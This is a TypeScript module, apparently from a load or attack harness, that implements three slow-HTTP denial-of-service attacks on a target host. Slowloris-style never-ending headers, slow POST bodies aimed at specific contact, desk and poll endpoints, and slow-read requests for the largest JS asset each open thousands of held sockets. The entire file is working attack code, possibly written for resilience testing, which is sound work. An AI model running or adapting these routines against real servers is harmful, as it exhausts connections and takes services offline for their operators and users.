import type { Socket } from "node:net";
import { dial, head, hold } from "../dial.ts";
import type { Attack } from "../order.ts";

const drip = (socket: Socket): void => void socket.write("x");

/** Heads that never end, a letter a second. */
export const slowHeads: Attack = (order, tally, until) => {
  const first = `GET / HTTP/1.1\r\nHost: ${order.host}\r\nX-Slow: `;
  const open = (): Socket => dial(order, tally, first);
  return hold({ many: 5000 * order.scale, rate: 2000, open, drip }, until);
};

/** Bodies that never end: small ones, long polls, and some as large as any door takes. */
export const slowBodies: Attack = (order, tally, until) => {
  const json = "Content-Type: application/json";
  const origin = `Origin: http://${order.host}`;
  const firsts = [
    head("POST", "/contact/api/challenge", order.host, json, "Content-Length: 60000"),
    head("POST", "/live/poll", order.host, origin, "Content-Length: 8000"),
    head("POST", "/desk/api/people/countersign", order.host, json, "Content-Length: 300000"),
    head("POST", "/contact/api/end", order.host, json, "Transfer-Encoding: chunked"),
  ];
  let turn = 0;
  const open = (): Socket => dial(order, tally, `${firsts[turn++ % firsts.length] ?? ""}1`);
  return hold({ many: 3000 * order.scale, rate: 1000, open, drip }, until);
};

/** Asks for the largest file again and again and reads nothing. */
export const deafReaders: Attack = async (order, tally, until) => {
  const path = await largestFile(order.port, order.host);
  const asked = head("GET", path, order.host).repeat(20);
  const open = (): Socket => {
    const socket = dial(order, tally, asked);
    socket.pause();
    return socket;
  };
  await hold({ many: 4000 * order.scale, rate: 400, open }, until);
};

async function largestFile(port: number, host: string): Promise<string> {
  const page = await new Promise<string>((resolve) => {
    const nothing = { opened: 0, cut: 0, answered: 0, told: {} };
    const socket = dial({ port }, nothing, head("GET", "/desk/", host, "Connection: close"));
    let said = "";
    socket.on("data", (part: Buffer) => (said += part.toString("latin1")));
    socket.on("close", () => resolve(said));
  });
  return /\/desk\/assets\/[\w.-]+\.js/.exec(page)?.[0] ?? "/desk/";
}
